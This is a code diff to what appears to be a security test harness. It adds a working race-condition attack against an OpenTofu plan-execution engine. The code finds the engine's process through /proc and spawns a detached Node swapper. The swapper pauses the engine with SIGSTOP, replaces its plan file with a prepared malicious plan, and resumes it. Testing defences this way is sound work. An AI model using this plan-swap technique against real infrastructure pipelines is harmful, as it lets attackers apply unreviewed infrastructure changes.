@@ -59,9 +59,14 @@ const attempts = [
   execFileSync("tofu", ["init", "-input=false"], opts);
   execFileSync("tofu", ["plan", "-lock=false", "-input=false", "-out=/tmp/evil.tfplan"], opts);
   say("ATTACK evil plan ready");
-  // Woken by inotify the moment the engine creates its plan file, and polling besides.
-  const swapper = "const fs=require('fs');let last=-1;const swap=()=>{try{const s=fs.statSync('/ktf/work/ktf.tfplan');if(s.ino!==last){fs.copyFileSync('/tmp/evil.tfplan','/ktf/work/swap.tmp');fs.renameSync('/ktf/work/swap.tmp','/ktf/work/ktf.tfplan');last=fs.statSync('/ktf/work/ktf.tfplan').ino;}}catch{}};fs.watch('/ktf/work',swap);setInterval(swap,1);";
-  spawn("node", ["-e", swapper], { detached: true, stdio: "ignore" }).unref();
+  // The engine is this program's grandparent (engine -> provider -> program). Woken by inotify
+  // the moment the engine creates its plan file, the swapper stops the engine (same user),
+  // puts the other plan in place and lets it go on: it cannot exit before the swap.
+  const parentOf = (pid) => fs.readFileSync("/proc/" + pid + "/stat", "utf8").split(") ")[1].split(" ")[1];
+  const engine = parentOf(process.ppid);
+  say("ATTACK engine " + engine + " " + fs.readFileSync("/proc/" + engine + "/comm", "utf8").trim());
+  const swapper = "const fs=require('fs');const engine=Number(process.argv.at(-1));const signal=(s)=>{try{process.kill(engine,s)}catch(e){fs.appendFileSync('/proc/1/fd/1','ATTACK '+s+' failed: '+e.message+'\\n')}};let last=-1;const swap=()=>{try{const s=fs.statSync('/ktf/work/ktf.tfplan');if(s.ino!==last){signal('SIGSTOP');fs.copyFileSync('/tmp/evil.tfplan','/ktf/work/swap.tmp');fs.renameSync('/ktf/work/swap.tmp','/ktf/work/ktf.tfplan');last=fs.statSync('/ktf/work/ktf.tfplan').ino;signal('SIGCONT');}}catch{}};fs.watch('/ktf/work',swap);setInterval(swap,1);";
+  spawn("node", ["-e", swapper, engine], { detached: true, stdio: "ignore" }).unref();
 })();
 `;
 
